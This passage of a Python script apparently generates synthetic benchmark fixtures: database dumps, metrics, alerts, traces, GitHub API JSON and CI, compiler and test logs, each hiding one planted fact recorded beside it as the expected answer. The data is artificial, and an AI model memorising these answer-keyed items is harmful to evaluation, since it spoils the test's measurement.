        L += ["--", f"-- Table structure for table `{tbl}`", "--", "", f"DROP TABLE IF EXISTS `{tbl}`;", f"CREATE TABLE `{tbl}` (",
              "  `id` bigint NOT NULL AUTO_INCREMENT,"]
        cols = {"customers": ["`email` varchar(255) NOT NULL", "`name` varchar(255) DEFAULT NULL"], "orders": ["`customer_id` bigint NOT NULL", "`total_cents` int NOT NULL", "`status` enum('new','paid','shipped','refunded') NOT NULL"],
                "order_items": ["`order_id` bigint NOT NULL", "`product_id` bigint NOT NULL", "`qty` int NOT NULL"], "products": ["`sku` varchar(32) NOT NULL", "`price_cents` int NOT NULL"],
                "coupons": ["`code` varchar(32) NOT NULL", "`percent_off` tinyint NOT NULL"]}[tbl]
        L += ["  " + c + "," for c in cols] + ["  PRIMARY KEY (`id`)", ") ENGINE=InnoDB DEFAULT CHARSET=utf8mb4 COLLATE=utf8mb4_0900_ai_ci;", "",
              f"LOCK TABLES `{tbl}` WRITE;", f"/*!40000 ALTER TABLE `{tbl}` DISABLE KEYS */;"]
        for b in range(6):
            vals = []
            for j in range(40):
                k = b * 40 + j + 1
                if tbl == "coupons":
                    pct = 10 if not (b == 3 and j == 7) else 100
                    vals.append(f"({k},'SAVE{k:03d}',{pct})")
                else:
                    vals.append(f"({k},'{R.choice(WORDS)}{k}',{R.randint(1,9999)})")
            L.append(f"INSERT INTO `{tbl}` VALUES " + ",".join(vals) + ";")
        L += [f"/*!40000 ALTER TABLE `{tbl}` ENABLE KEYS */;", "UNLOCK TABLES;", ""]
    L.append("-- Dump completed on 2026-12-06  3:00:01")
    w("mysqldump.sql", "\n".join(L), "coupon SAVE128 percent_off 100; table list")


# ---------------- monitoring / observability ----------------

def prom_metrics():
    L = []
    for m, typ, hlp in [("http_requests_total", "counter", "Total HTTP requests."), ("http_request_duration_seconds", "histogram", "Request latency."),
                        ("process_resident_memory_bytes", "gauge", "Resident memory size in bytes."), ("db_pool_connections", "gauge", "DB pool connections by state."),
                        ("queue_depth", "gauge", "Jobs waiting per queue.")]:
        L += [f"# HELP {m} {hlp}", f"# TYPE {m} {typ}"]
        if m == "http_requests_total":
            for r in ["/api/orders", "/api/cart", "/api/items", "/healthz", "/api/users"]:
                for meth in ["GET", "POST"]:
                    for code in ["200", "201", "400", "404", "500"]:
                        v = R.randint(0, 50) if code in ("400", "404") else (R.randint(0, 3) if code == "500" else R.randint(1000, 900000))
                        if r == "/api/cart" and meth == "POST" and code == "500": v = 48211
                        L.append(f'{m}{{method="{meth}",route="{r}",code="{code}"}} {v}')
        elif typ == "histogram":
            for r in ["/api/orders", "/api/cart", "/api/items"]:
                c = 0
                for le in ["0.005", "0.01", "0.025", "0.05", "0.1", "0.25", "0.5", "1", "2.5", "5", "10", "+Inf"]:
                    c += R.randint(0, 9000)
                    L.append(f'{m}_bucket{{route="{r}",le="{le}"}} {c}')
                L += [f'{m}_sum{{route="{r}"}} {R.uniform(1000, 90000):.3f}', f'{m}_count{{route="{r}"}} {c}']
        elif m == "db_pool_connections":
            L += ['db_pool_connections{state="idle"} 0', 'db_pool_connections{state="in_use"} 50', 'db_pool_connections{state="max"} 50',
                  'db_pool_connections{state="waiting"} 312']
        elif m == "queue_depth":
            for q in ["emails", "webhooks", "thumbnails", "exports", "reindex"]:
                L.append(f'queue_depth{{queue="{q}"}} {R.randint(0, 30)}')
        else:
            L.append(f"{m} 1.893212544e+09")
    for g in range(40):
        L += [f"# HELP go_gc_x{g} Go runtime stat {g}.", f"# TYPE go_gc_x{g} gauge", f"go_gc_x{g} {R.randint(0, 10**6)}"]
    w("metrics.prom", "\n".join(L), "POST /api/cart 500 = 48211; db pool waiting 312")


def alertmanager_json():
    alerts = []
    for i in range(45):
        sev = "warning" if i != 33 else "critical"
        name = R.choice(["KubePodNotReady", "CPUThrottlingHigh", "KubeJobFailed", "TargetDown", "NodeClockSkew"]) if i != 33 else "PostgresReplicationLagHigh"
        alerts.append({"annotations": {"summary": f"{name} on {R.choice(SVCS)}", "description": "Condition persisted for more than 10 minutes.", "runbook_url": f"https://runbooks.example.com/{name.lower()}"},
                       "endsAt": "2026-12-06T03:20:00.000Z", "fingerprint": hexs(16), "receivers": [{"name": "slack-" + ("pager" if sev == "critical" else "alerts")}],
                       "startsAt": f"2026-12-06T0{R.randint(0,2)}:{R.randint(10,59)}:00.000Z", "status": {"inhibitedBy": [], "silencedBy": [] if i % 7 else [hexs(8)], "state": "active" if i % 7 else "suppressed"},
                       "updatedAt": "2026-12-06T03:10:00.000Z", "generatorURL": f"http://prometheus:9090/graph?g0.expr={name}",
                       "labels": {"alertname": name, "namespace": "prod", "severity": sev, "pod": f"{R.choice(SVCS)}-{hexs(9)}-{rid()}", "prometheus": "monitoring/k8s"}})
    alerts[33]["labels"]["pod"] = "postgres-1"
    alerts[33]["annotations"]["summary"] = "Replica postgres-1 is 1843 s behind primary"
    w("alertmanager_alerts.json", json.dumps(alerts, indent=2), "critical PostgresReplicationLagHigh postgres-1 1843 s")


def grafana_dashboard():
    panels = []
    for i in range(24):
        p = {"id": i + 1, "type": R.choice(["timeseries", "stat", "gauge", "table"]), "title": f"{R.choice(SVCS)} {R.choice(['p99 latency', 'error rate', 'RPS', 'CPU', 'memory'])}",
             "gridPos": {"h": 8, "w": 12, "x": (i % 2) * 12, "y": (i // 2) * 8}, "datasource": {"type": "prometheus", "uid": "prom-main"},
             "targets": [{"expr": f'sum(rate(http_requests_total{{service="{R.choice(SVCS)}"}}[5m]))', "refId": "A", "legendFormat": "{{route}}"}],
             "fieldConfig": {"defaults": {"unit": R.choice(["s", "percentunit", "reqps", "bytes"]), "thresholds": {"mode": "absolute", "steps": [{"color": "green", "value": None}, {"color": "red", "value": 80}]}}, "overrides": []},
             "options": {"legend": {"displayMode": "list", "placement": "bottom"}, "tooltip": {"mode": "single"}}}
        if i == 17:
            p["datasource"] = {"type": "prometheus", "uid": "prom-old-decommissioned"}
            p["title"] = "payments error rate"
        panels.append(p)
    d = {"annotations": {"list": []}, "editable": True, "graphTooltip": 1, "id": 112, "links": [], "panels": panels, "refresh": "30s", "schemaVersion": 39,
         "tags": ["prod", "slo"], "templating": {"list": [{"name": "namespace", "type": "query", "query": "label_values(namespace)", "current": {"text": "prod", "value": "prod"}}]},
         "time": {"from": "now-6h", "to": "now"}, "title": "Prod service overview", "uid": "prod-overview", "version": 57}
    w("grafana_dashboard.json", json.dumps(d, indent=2), "panel 18 'payments error rate' uses datasource uid prom-old-decommissioned")


def otel_spans():
    spans = []
    trace = hexs(32)
    for i in range(140):
        st = {"code": "STATUS_CODE_UNSET"}
        name = R.choice(["GET /api/cart", "redis.GET", "SELECT carts", "http.client POST pricing", "kafka.produce cart-events"])
        dur = R.randint(200_000, 9_000_000)
        attrs = [{"key": "service.name", "value": {"stringValue": R.choice(SVCS)}}, {"key": "net.peer.name", "value": {"stringValue": "10.0.2.%d" % R.randint(2, 60)}}]
        events = []
        if i == 97:
            name, dur = "http.client POST pricing", 30_001_233_111
            st = {"code": "STATUS_CODE_ERROR", "message": "upstream request timeout"}
            events = [{"timeUnixNano": "1733454667000000000", "name": "exception", "attributes": [{"key": "exception.type", "value": {"stringValue": "TimeoutError"}}, {"key": "exception.message", "value": {"stringValue": "pricing did not respond within 30s"}}]}]
        start = 1733454637000000000 + i * 1_000_000
        spans.append({"traceId": trace, "spanId": hexs(16), "parentSpanId": hexs(16) if i else "", "name": name, "kind": "SPAN_KIND_CLIENT",
                      "startTimeUnixNano": str(start), "endTimeUnixNano": str(start + dur), "attributes": attrs, "events": events, "status": st})
    d = {"resourceSpans": [{"resource": {"attributes": [{"key": "service.name", "value": {"stringValue": "cart"}}]},
                            "scopeSpans": [{"scope": {"name": "opentelemetry.instrumentation", "version": "0.48b0"}, "spans": spans}]}]}
    w("otel_trace.json", json.dumps(d, indent=2), "span POST pricing STATUS_CODE_ERROR TimeoutError 30 s")


def sentry_event():
    frames = []
    for i in range(40):
        inapp = i in (36, 38)
        frames.append({"filename": ("app/billing/invoice.py" if i == 38 else "app/billing/tasks.py") if inapp else f"django/{R.choice(['core','db','utils'])}/{R.choice(WORDS)}.py",
                       "abs_path": "/srv/app/...", "function": "render_total" if i == 38 else R.choice(WORDS), "module": "x", "lineno": 212 if i == 38 else R.randint(10, 900),
                       "in_app": inapp, "context_line": "    total = sum(l.amount for l in lines) / len(lines)" if i == 38 else "    return fn(*args, **kwargs)",
                       "pre_context": ["", "def f():"], "post_context": ["", ""], "vars": {"self": "<object>", "args": "()", "kwargs": "{}"}})
    ev = {"event_id": hexs(32), "project": "billing", "release": "billing@3.18.0", "environment": "production", "platform": "python", "level": "error",
          "timestamp": "2026-12-06T03:02:11Z", "culprit": "app.billing.invoice in render_total", "message": "",
          "exception": {"values": [{"type": "ZeroDivisionError", "value": "division by zero", "module": "builtins", "mechanism": {"type": "celery", "handled": False}, "stacktrace": {"frames": frames}}]},
          "breadcrumbs": {"values": [{"timestamp": f"2026-12-06T03:02:{i:02d}Z", "category": R.choice(["query", "http", "celery"]), "level": "info", "message": f"SELECT ... {i}"} for i in range(60)]},
          "tags": [["browser", "n/a"], ["celery_task_name", "billing.tasks.generate_invoice"], ["server_name", "worker-7"], ["level", "error"]],
          "contexts": {"runtime": {"name": "CPython", "version": "3.12.7"}, "os": {"name": "Linux"}}, "sdk": {"name": "sentry.python.celery", "version": "2.19.0"}}
    w("sentry_event.json", json.dumps(ev, indent=2), "ZeroDivisionError division by zero in app/billing/invoice.py:212 render_total")

# ---------------- GitHub / CI ----------------

def gh_issues_json():
    items = []
    for i in range(60):
        n = 4100 - i
        labels = [{"id": R.randint(10**8, 10**9), "name": R.choice(["bug", "enhancement", "docs", "needs-triage"]), "color": hexs(6), "default": False}]
        if i == 23: labels = [{"id": 1, "name": "security", "color": "b60205", "default": False}, {"id": 2, "name": "P0", "color": "000000", "default": False}]
        items.append({"url": f"https://api.github.com/repos/acme/shop/issues/{n}", "html_url": f"https://github.com/acme/shop/issues/{n}", "id": R.randint(10**9, 3 * 10**9),
                      "node_id": "I_kwDO" + rid(14), "number": n, "title": ("Auth bypass when JWT alg=none is sent" if i == 23 else f"{R.choice(['Cart', 'Checkout', 'Search', 'Docs'])}: {R.choice(['slow on mobile', 'typo in README', 'button misaligned', 'add dark mode', 'flaky test'])}"),
                      "user": {"login": R.choice(["alice", "bob", "carol", "mallory"]), "id": R.randint(1000, 99999), "type": "User", "site_admin": False, "avatar_url": "https://avatars.githubusercontent.com/u/%d?v=4" % R.randint(1000, 99999)},
                      "labels": labels, "state": "open", "locked": False, "assignee": None, "assignees": [], "milestone": None, "comments": R.randint(0, 12),
                      "created_at": f"2026-1{R.randint(0,1)}-{R.randint(1,28):02d}T{R.randint(0,23):02d}:00:00Z", "updated_at": "2026-12-05T10:00:00Z", "closed_at": None,
                      "author_association": "CONTRIBUTOR", "body": "Steps to reproduce:\r\n1. ...\r\n2. ...\r\n\r\nExpected ...", "reactions": {"url": "x", "total_count": 0, "+1": 0, "-1": 0}})
    w("gh_api_issues.json", json.dumps(items, indent=2), "#4077 security P0 'Auth bypass when JWT alg=none'")


def gh_check_runs():
    runs = []
    for i in range(34):
        concl = "success" if i != 19 else "failure"
        name = f"test ({R.choice(['ubuntu-latest', 'macos-14', 'windows-2022'])}, {R.choice(['3.11', '3.12', '3.13'])})" if i != 19 else "integration (postgres-16)"
        runs.append({"id": R.randint(10**10, 4 * 10**10), "name": name, "node_id": "CR_" + rid(20), "head_sha": hexs(40), "external_id": hexs(8),
                     "url": "https://api.github.com/repos/acme/shop/check-runs/1", "html_url": "https://github.com/acme/shop/actions/runs/1/job/2", "details_url": "https://github.com/acme/shop/actions/runs/1/job/2",
                     "status": "completed", "conclusion": concl, "started_at": "2026-12-06T02:10:00Z", "completed_at": "2026-12-06T02:%02d:00Z" % R.randint(12, 40),
                     "output": {"title": "Process completed with exit code 1." if concl == "failure" else None, "summary": None, "text": None, "annotations_count": 1 if concl == "failure" else 0, "annotations_url": "x"},
                     "check_suite": {"id": R.randint(10**10, 3 * 10**10)}, "app": {"id": 15368, "slug": "github-actions", "name": "GitHub Actions"}, "pull_requests": []})
    w("gh_check_runs.json", json.dumps({"total_count": len(runs), "check_runs": runs}, indent=2), "integration (postgres-16) conclusion failure")


def gitlab_ci_log():
    L = ["Running with gitlab-runner 17.5.2 (c6eae8d7)", "  on docker-runner-3 x7Qk2pZs, system ID: r_" + rid(12),
         "Preparing the \"docker\" executor", "Using Docker executor with image node:20-bookworm ...", "section_start:1733450000:prepare_script\r\x1b[0K\x1b[0K\x1b[36;1mPreparing environment\x1b[0;m",
         "Running on runner-x7qk2pzs-project-4411-concurrent-0 via ci-3...", "section_end:1733450002:prepare_script\r\x1b[0K",
         "section_start:1733450002:get_sources\r\x1b[0K\x1b[0K\x1b[36;1mGetting source from Git repository\x1b[0;m", "\x1b[32;1mFetching changes with git depth set to 20...\x1b[0;m",
         "Initialized empty Git repository in /builds/acme/shop/.git/", "\x1b[32;1mChecking out 3f9a1c2e as detached HEAD (ref is main)...\x1b[0;m",
         "section_end:1733450009:get_sources\r\x1b[0K", "section_start:1733450009:step_script\r\x1b[0K\x1b[0K\x1b[36;1mExecuting \"step_script\" stage of the job script\x1b[0;m",
         "\x1b[32;1m$ npm ci\x1b[0;m"]
    for i in range(300):
        L.append(f"npm warn deprecated {R.choice(['inflight@1.0.6', 'glob@7.2.3', 'rimraf@3.0.2', 'abab@2.0.6'])}: This module is not supported, and leaks memory.")
    L += ["added 1432 packages, and audited 1433 packages in 41s", "\x1b[32;1m$ npm run migrate:check && npm run test:ci\x1b[0;m", "> shop@1.0.0 migrate:check", "> node scripts/check-migrations.js"]
    for i in range(40):
        L.append(f"  ✓ migration {20260100 + i}_{R.choice(WORDS)}.sql applied cleanly")
    L += ["  ✗ migration 20260140_add_coupon_index.sql", "    error: relation \"coupons_code_idx\" already exists", "    at Parser.parseErrorMessage (node_modules/pg-protocol/dist/parser.js:283:98)",
          "section_end:1733450301:step_script\r\x1b[0K", "section_start:1733450301:cleanup_file_variables\r\x1b[0K\x1b[0K\x1b[36;1mCleaning up project directory and file based variables\x1b[0;m",
          "section_end:1733450302:cleanup_file_variables\r\x1b[0K", "\x1b[31;1mERROR: Job failed: exit code 1\n\x1b[0;m"]
    w("gitlab_ci_job.log", "\n".join(L), "migration 20260140 relation coupons_code_idx already exists; Job failed exit code 1")


def circleci_log():
    L = ["#!/bin/bash -eo pipefail", "bundle exec rspec --format progress --format RspecJunitFormatter --out test-results/rspec.xml"]
    dots = "".join(R.choice("." * 60 + "*") for _ in range(1400))
    dots = dots[:977] + "F" + dots[978:]
    L += [dots[i:i + 100] for i in range(0, 1400, 100)]
    L += ["", "Pending: (Failures listed here are expected and do not affect your suite's status)", ""]
    for i in range(dots.count("*")):
        L += [f"  {i+1}) {R.choice(['Cart', 'Order', 'User'])} #{R.choice(WORDS)} is pending", "     # Temporarily skipped with xit", f"     # ./spec/models/{R.choice(WORDS)}_spec.rb:{R.randint(5,90)}", ""]
    L += ["Failures:", "", "  1) Checkout::TaxCalculator applies reduced VAT for books in DE", "     Failure/Error: expect(tax.rate).to eq(BigDecimal(\"0.07\"))", "",
          "       expected: 0.7e-1", "            got: 0.19e0", "", "       (compared using ==)", "     # ./spec/services/checkout/tax_calculator_spec.rb:44:in `block (3 levels) in <top (required)>'", "",
          "Finished in 3 minutes 12 seconds (files took 6.1 seconds to load)", f"1400 examples, 1 failure, {dots.count('*')} pending", "", "Failed examples:", "",
          "rspec ./spec/services/checkout/tax_calculator_spec.rb:41 # Checkout::TaxCalculator applies reduced VAT for books in DE", "", "Exited with code exit status 1"]
    w("circleci_rspec.txt", "\n".join(L), "TaxCalculator reduced VAT DE expected 0.07 got 0.19 tax_calculator_spec.rb:44")


def bazel_build():
    L = ["INFO: Invocation ID: " + "-".join(hexs(n) for n in (8, 4, 4, 4, 12)), "INFO: Analyzed 412 targets (0 packages loaded, 0 targets configured).", "INFO: Found 412 targets..."]
    for i in range(500):
        L.append(f"[{i*7+1:,} / 3,122] {R.choice(['Compiling', 'GoCompilePkg', 'Linking', 'Action'])} {R.choice(['//services/cart', '//services/orders', '//lib/money', '//lib/auth'])}:{R.choice(WORDS)} ; {R.randint(0,9)}s {R.choice(['linux-sandbox', 'remote-cache', 'processwrapper-sandbox'])}")
    L += ["ERROR: /home/ci/repo/lib/money/BUILD.bazel:14:11: GoCompilePkg lib/money/money.a failed: (Exit 1): builder failed: error executing GoCompilePkg command (from target //lib/money:money) bazel-out/k8-opt-exec-ST-13d3ddad9198/bin/external/go_sdk/builder_reset/builder compilepkg -sdk external/go_sdk -installsuffix linux_amd64 -src lib/money/round.go -src ... (remaining 31 arguments skipped)",
          "", "Use --sandbox_debug to see verbose messages from the sandbox and retain the sandbox build root for debugging",
          "lib/money/round.go:31:9: cannot use amt * factor (value of type float64) as Cents value in return statement", "compilepkg: error running subcommand external/go_sdk/pkg/tool/linux_amd64/compile: exit status 1",
          "Target //services/cart:cart failed to build", "Use --verbose_failures to see the command lines of failed build steps.",
          "INFO: Elapsed time: 184.233s, Critical Path: 92.11s", "INFO: 2188 processes: 1912 remote cache hit, 211 internal, 65 linux-sandbox.", "ERROR: Build did NOT complete successfully"]
    w("bazel_build.txt", "\n".join(L), "lib/money/round.go:31:9 cannot use float64 as Cents")


def ninja_gcc():
    L = ["[0/412] Re-checking globbed directories..."]
    for i in range(1, 300):
        L.append(f"[{i}/412] Building CXX object src/CMakeFiles/engine.dir/{R.choice(['render','audio','net','physics'])}/{R.choice(WORDS)}_{i}.cpp.o")
        if i in (40, 120, 200):
            f = f"src/{R.choice(['render','net'])}/{R.choice(WORDS)}_{i}.cpp"
            L += [f"/home/dev/engine/{f}:{R.randint(10,300)}:{R.randint(5,30)}: warning: unused variable 'tmp' [-Wunused-variable]", "  int tmp = 0;", "      ^~~"]
    L += ["[300/412] Building CXX object src/CMakeFiles/engine.dir/physics/solver.cpp.o", "FAILED: src/CMakeFiles/engine.dir/physics/solver.cpp.o",
          "/usr/bin/c++ -DENGINE_EXPORTS -I/home/dev/engine/include -O2 -g -std=gnu++20 -fPIC -MD -MT src/CMakeFiles/engine.dir/physics/solver.cpp.o -MF src/CMakeFiles/engine.dir/physics/solver.cpp.o.d -o src/CMakeFiles/engine.dir/physics/solver.cpp.o -c /home/dev/engine/src/physics/solver.cpp",
          "In file included from /home/dev/engine/src/physics/solver.cpp:3:", "/home/dev/engine/include/engine/physics/body.hpp: In member function 'void engine::Body::integrate(float)':",
          "/home/dev/engine/include/engine/physics/body.hpp:58:22: error: no match for 'operator+=' (operand types are 'engine::Vec3' and 'engine::Vec4')",
          "   58 |         velocity_ += accel * dt;", "      |         ~~~~~~~~~~^~~~~~~~~~~~~", "In file included from /home/dev/engine/src/physics/solver.cpp:2:",
          "/home/dev/engine/include/engine/math/vec3.hpp:41:11: note: candidate: 'engine::Vec3& engine::Vec3::operator+=(const engine::Vec3&)'",
          "   41 |     Vec3& operator+=(const Vec3& o) {", "      |           ^~~~~~~~", "/home/dev/engine/include/engine/math/vec3.hpp:41:34: note:   no known conversion for argument 1 from 'engine::Vec4' to 'const engine::Vec3&'",
          "   41 |     Vec3& operator+=(const Vec3& o) {", "      |                      ~~~~~~~~~~~~^", "ninja: build stopped: subcommand failed."]
    w("ninja_gcc_error.txt", "\n".join(L), "body.hpp:58:22 no match for operator+= Vec3 Vec4 + note candidate")


def rustc_errors():
    L = ["   Compiling proc-macro2 v1.0.89", "   Compiling unicode-ident v1.0.13"]
    for c in ["serde v1.0.215", "syn v2.0.87", "tokio v1.41.1", "hyper v1.5.0", "axum v0.7.9", "sqlx v0.8.2", "tracing v0.1.40", "regex v1.11.1"] * 6:
        L.append(f"   Compiling {c}")
    L += ["   Compiling shop-api v0.4.0 (/home/dev/shop-api)", "error[E0308]: mismatched types", "  --> src/handlers/cart.rs:87:24", "   |",
          "85 |     let qty: u32 = req.qty;", "   |              --- expected due to this type", "86 |     ...", "87 |     let total: u64 = qty * price_cents;",
          "   |                ---   ^^^^^^^^^^^^^^^^^ expected `u64`, found `u32`", "   |                |", "   |                expected due to this", "   |",
          "help: you can convert a `u32` to a `u64`", "   |", "87 |     let total: u64 = (qty * price_cents).into();", "   |                      +                  ++++++++", ""]
    for i in range(25):
        L += [f"warning: unused import: `{R.choice(['std::fmt', 'tracing::debug', 'serde::Deserialize', 'crate::db::Pool'])}`", f"  --> src/{R.choice(['main', 'db', 'routes', 'auth'])}.rs:{R.randint(1,20)}:5",
              "   |", f"{R.randint(1,20):<2} | use {R.choice(WORDS)};", "   |     ^^^^^^^^", ""]
    L += ["error[E0599]: no method named `fetch_optinal` found for struct `QueryAs` in the current scope", "   --> src/db/orders.rs:142:10", "    |",
          "142 |         .fetch_optinal(&self.pool)", "    |          ^^^^^^^^^^^^^", "    |", "help: there is a method `fetch_optional` with a similar name", "    |",
          "142 |         .fetch_optional(&self.pool)", "    |          ~~~~~~~~~~~~~~", "",
          "Some errors have detailed explanations: E0308, E0599.", "For more information about an error, try `rustc --explain E0308`.",
          "warning: `shop-api` (bin \"shop-api\") generated 25 warnings", "error: could not compile `shop-api` (bin \"shop-api\") due to 2 previous errors; 25 warnings emitted"]
    w("cargo_build_errors.txt", "\n".join(L), "E0308 cart.rs:87 u64/u32 and E0599 fetch_optinal orders.rs:142")


def swift_build():
    L = ["Building for debugging..."]
    for i in range(120):
        L.append(f"[{i+1}/260] Compiling {R.choice(['NIOCore', 'Vapor', 'Fluent', 'App', 'AsyncHTTPClient'])} {R.choice(WORDS).capitalize()}{i}.swift")
    L += ["/Users/dev/Shop/Sources/App/Controllers/OrderController.swift:48:33: error: value of optional type 'User?' must be unwrapped to refer to member 'id' of wrapped base type 'User'",
          "        let order = Order(userID: user.id, items: items)", "                                ^", "/Users/dev/Shop/Sources/App/Controllers/OrderController.swift:48:33: note: chain the optional using '?' to access member 'id' only for non-'nil' base values",
          "        let order = Order(userID: user.id, items: items)", "                                ^", "                                    ?",
          "/Users/dev/Shop/Sources/App/Models/Order.swift:12:9: warning: var 'total' was never mutated; consider changing to 'let' constant", "    var total = 0", "    ~~~ ^", "    let",
          "error: fatalError"]
    w("swift_build.txt", "\n".join(L), "OrderController.swift:48:33 optional User? must be unwrapped")


def xcodebuild():
    L = ["Command line invocation:", "    /Applications/Xcode.app/Contents/Developer/usr/bin/xcodebuild -scheme Shop -destination 'platform=iOS Simulator,name=iPhone 15' test", "",
         "User defaults from command line:", "    IDEPackageSupportUseBuiltinSCM = YES", "", "Prepare packages", "", "ComputeTargetDependencyGraph", "note: Building targets in dependency order", ""]
    for i in range(250):
        L.append(f"CompileSwift normal arm64 /Users/dev/Shop/Shop/{R.choice(['Views','Models','Services'])}/{R.choice(WORDS).capitalize()}{i}.swift (in target 'Shop' from project 'Shop')")
        L.append(f"    cd /Users/dev/Shop")
        L.append(f"    /Applications/Xcode.app/Contents/Developer/Toolchains/XcodeDefault.xctoolchain/usr/bin/swift-frontend -c -primary-file /Users/dev/Shop/Shop/x{i}.swift -emit-module-path /Users/dev/Library/Developer/Xcode/DerivedData/Shop-{rid(20)}/Build/Intermediates.noindex/Shop.build/Debug-iphonesimulator/Shop.build/Objects-normal/arm64/x{i}~partial.swiftmodule -target arm64-apple-ios17.0-simulator -Onone")
        L.append("")
    L += ["Test Suite 'All tests' started at 2026-12-06 03:01:02.113.", "Test Suite 'ShopTests.xctest' started at 2026-12-06 03:01:02.114."]
    for i in range(80):
        nm = f"test{R.choice(WORDS).capitalize()}{i}"
        if i == 52:
            L += ["Test Case '-[ShopTests.CartTests testDiscountNeverNegative]' started.",
                  "/Users/dev/Shop/ShopTests/CartTests.swift:77: error: -[ShopTests.CartTests testDiscountNeverNegative] : XCTAssertGreaterThanOrEqual failed: (\"-5.0\") is less than (\"0.0\")",
                  "Test Case '-[ShopTests.CartTests testDiscountNeverNegative]' failed (0.004 seconds)."]
        L += [f"Test Case '-[ShopTests.CartTests {nm}]' started.", f"Test Case '-[ShopTests.CartTests {nm}]' passed ({R.uniform(0,0.2):.3f} seconds)."]
    L += ["Test Suite 'ShopTests.xctest' failed at 2026-12-06 03:01:09.801.", "\t Executed 81 tests, with 1 failure (0 unexpected) in 4.210 (4.233) seconds",
          "", "Failing tests:", "\tShopTests:", "\t\tCartTests.testDiscountNeverNegative()", "", "** TEST FAILED **"]
    w("xcodebuild_test.txt", "\n".join(L), "CartTests.swift:77 testDiscountNeverNegative -5.0 < 0.0")


def dotnet_build():
    L = ["MSBuild version 17.11.9+a69bbaaf5 for .NET", "  Determining projects to restore...", "  All projects are up-to-date for restore."]
    for i in range(60):
        L.append(f"/src/Shop.Api/{R.choice(['Controllers','Services','Models'])}/{R.choice(WORDS).capitalize()}.cs({R.randint(5,300)},{R.randint(5,40)}): warning CS8618: Non-nullable property 'Name' must contain a non-null value when exiting constructor. Consider adding the 'required' modifier or declaring the property as nullable. [/src/Shop.Api/Shop.Api.csproj]")
    L += ["/src/Shop.Api/Services/PaymentService.cs(112,31): error CS1061: 'PaymentIntent' does not contain a definition for 'AmountCaptured' and no accessible extension method 'AmountCaptured' accepting a first argument of type 'PaymentIntent' could be found (are you missing a using directive or an assembly reference?) [/src/Shop.Api/Shop.Api.csproj]",
          "", "Build FAILED.", ""]
    for i in range(60):
        L.append(L[3 + i])
    L += [L[63], "    60 Warning(s)", "    1 Error(s)", "", "Time Elapsed 00:00:21.48"]
    w("dotnet_build.txt", "\n".join(L), "PaymentService.cs(112,31) CS1061 AmountCaptured")


def dotnet_test():
    L = ["  Determining projects to restore...", "  All projects are up-to-date for restore.", "  Shop.Api -> /src/Shop.Api/bin/Debug/net8.0/Shop.Api.dll",
         "  Shop.Tests -> /src/Shop.Tests/bin/Debug/net8.0/Shop.Tests.dll", "Test run for /src/Shop.Tests/bin/Debug/net8.0/Shop.Tests.dll (.NETCoreApp,Version=v8.0)",
         "VSTest version 17.11.1 (x64)", "", "Starting test execution, please wait...", "A total of 1 test files matched the specified pattern."]
    for i in range(200):
        L.append(f"  Passed Shop.Tests.{R.choice(['Cart','Order','Pricing'])}Tests.{R.choice(WORDS).capitalize()}_{i} [{R.randint(1,90)} ms]")
        if i == 144:
            L += ["  Failed Shop.Tests.PricingTests.Applies_Coupon_Before_Tax [27 ms]", "  Error Message:", "   Assert.Equal() Failure: Values differ",
                  "Expected: 107.00", "Actual:   110.00", "  Stack Trace:", "     at Shop.Tests.PricingTests.Applies_Coupon_Before_Tax() in /src/Shop.Tests/PricingTests.cs:line 63",
                  "   at System.RuntimeMethodHandle.InvokeMethod(Object target, Void** arguments, Signature sig, Boolean isConstructor)"]
    L += ["", "Failed!  - Failed:     1, Passed:   200, Skipped:     0, Total:   201, Duration: 4 s - Shop.Tests.dll (net8.0)"]
    w("dotnet_test.txt", "\n".join(L), "Applies_Coupon_Before_Tax expected 107 actual 110 PricingTests.cs:line 63")


def phpunit():
    L = ["PHPUnit 11.4.3 by Sebastian Bergmann and contributors.", "", "Runtime:       PHP 8.3.13", "Configuration: /app/phpunit.xml", ""]
    dots = "".join(R.choice("." * 80 + "S") for _ in range(630))
    dots = dots[:411] + "F" + dots[412:]
    for i in range(0, 630, 63):
        L.append(dots[i:i + 63] + f" {min(i+63,630):3d} / 630 ({(min(i+63,630))*100//630:3d}%)")
    L += ["", "Time: 00:08.112, Memory: 64.00 MB", "", "There was 1 failure:", "",
          "1) Tests\\Unit\\InvoiceTest::testRoundsHalfUp", "Failed asserting that 10.0 is identical to 10.01.", "", "/app/tests/Unit/InvoiceTest.php:58", "",
          "FAILURES!", f"Tests: 630, Assertions: 1822, Failures: 1, Skipped: {dots.count('S')}."]
    w("phpunit.txt", "\n".join(L), "InvoiceTest::testRoundsHalfUp InvoiceTest.php:58 10.0 vs 10.01")


def go_test_json():
    L = []
    t = dt.datetime(2026, 12, 6, 3, 0, 0)
    pkgs = ["github.com/acme/shop/internal/" + p for p in ["cart", "orders", "pricing", "auth", "store", "api"]]
    for p in pkgs:
        for i in range(60):
            tn = f"Test{R.choice(WORDS).capitalize()}{i}"
            t += dt.timedelta(milliseconds=R.randint(1, 50))
            L.append(json.dumps({"Time": t.isoformat() + "Z", "Action": "run", "Package": p, "Test": tn}))
            L.append(json.dumps({"Time": t.isoformat() + "Z", "Action": "output", "Package": p, "Test": tn, "Output": f"=== RUN   {tn}\n"}))
            fail = p.endswith("pricing") and i == 33
            if fail:
                L.append(json.dumps({"Time": t.isoformat() + "Z", "Action": "output", "Package": p, "Test": tn, "Output": "    pricing_test.go:142: Total() = 99.99, want 100.00 (coupon SAVE10 on 111.10)\n"}))
            L.append(json.dumps({"Time": t.isoformat() + "Z", "Action": "output", "Package": p, "Test": tn, "Output": f"--- {'FAIL' if fail else 'PASS'}: {tn} (0.00s)\n"}))
            L.append(json.dumps({"Time": t.isoformat() + "Z", "Action": "fail" if fail else "pass", "Package": p, "Test": tn, "Elapsed": 0}))
        bad = p.endswith("pricing")
        L.append(json.dumps({"Time": t.isoformat() + "Z", "Action": "output", "Package": p, "Output": ("FAIL\n" if bad else "PASS\n")}))
        L.append(json.dumps({"Time": t.isoformat() + "Z", "Action": "output", "Package": p, "Output": f"{'FAIL' if bad else 'ok  '}\t{p}\t0.{R.randint(100,999)}s\n"}))
        L.append(json.dumps({"Time": t.isoformat() + "Z", "Action": "fail" if bad else "pass", "Package": p, "Elapsed": 0.4}))
    w("go_test.jsonl", "\n".join(L), "TestXxx33 pricing_test.go:142 Total() = 99.99 want 100.00")


def vitest():
    L = ["", " RUN  v2.1.5 /home/dev/web", ""]
    for i in range(70):
        f = f"src/{R.choice(['components','hooks','utils'])}/{R.choice(WORDS)}{i}.test.ts"
        if i == 44:
